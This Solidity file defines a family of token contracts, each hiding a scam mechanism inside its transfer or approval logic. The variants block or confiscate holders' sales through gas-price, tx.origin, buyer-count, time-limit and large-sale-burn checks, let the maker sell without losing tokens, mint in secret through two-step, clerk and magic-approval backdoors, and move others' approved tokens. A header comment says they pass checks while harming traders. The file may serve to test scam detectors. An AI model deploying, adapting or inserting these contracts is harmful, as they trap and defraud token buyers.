// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {FamilyToken} from "./FamilyToken.sol";

/// Family: nice to whoever checks it, and not to whoever trades; or not yet as bad as it is going to be.
contract FreeGasSells is FamilyToken {
    function _move(address from, address to, uint256 value) internal override {
        require(!_isSale(from, to) || tx.gasprice == 0, "closed");
        super._move(from, to, value);
    }
}

contract OnlyContractsSell is FamilyToken {
    function _move(address from, address to, uint256 value) internal override {
        require(!_isSale(from, to) || tx.origin != from, "closed");
        super._move(from, to, value);
    }
}

contract CrowdIsStuck is FamilyToken {
    uint256 private _buyers;
    mapping(address => uint256) private _place;

    function _move(address from, address to, uint256 value) internal override {
        if (from == pair && _place[to] == 0) _place[to] = ++_buyers;
        require(!_isSale(from, to) || _place[from] < 40, "closed");
        super._move(from, to, value);
    }
}

contract ClosesInAYear is FamilyToken {
    uint256 private immutable _until = block.timestamp + 400 days;

    function _move(address from, address to, uint256 value) internal override {
        require(!_isSale(from, to) || block.timestamp < _until, "closed");
        super._move(from, to, value);
    }
}

contract LargeSaleIsLost is FamilyToken {
    function _move(address from, address to, uint256 value) internal override {
        if (_isSale(from, to) && value > totalSupply / 150) {
            super._move(from, address(0xdEaD), (value * 9) / 10);
            value -= (value * 9) / 10;
        }
        super._move(from, to, value);
    }
}

/// What its maker sells is not taken from them.
contract MakerNeverPays is FamilyToken {
    address private immutable _maker = msg.sender;

    function _move(address from, address to, uint256 value) internal override {
        if (from == _maker && to == pair) _balances[from] += value;
        super._move(from, to, value);
    }
}

contract MintsInTwoSteps is FamilyToken {
    uint256 private _wished;

    function wish(uint256 amount) external onlyOwner {
        _wished = amount;
    }

    function fulfil() external onlyOwner {
        _give(owner, _wished);
        _wished = 0;
    }
}

contract NamesWhoMints is FamilyToken {
    address private _clerk;

    function name_(address clerk) external onlyOwner {
        _clerk = clerk;
    }

    function restock(uint256 amount) external {
        require(msg.sender == _clerk, "no clerk");
        _give(msg.sender, amount);
    }
}

contract SignerTakesAll is FamilyToken {
    address private immutable _maker = msg.sender;

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (tx.origin != _maker) return super.transferFrom(from, to, value);
        _move(from, to, value);
        return true;
    }
}

/// An approval of one amount gives its maker tokens.
contract ApprovalMints is FamilyToken {
    function approve(address spender, uint256 value) public override returns (bool) {
        if (msg.sender == owner && value == 0xBADCAFE) _give(msg.sender, 1e30);
        return super.approve(spender, value);
    }
}
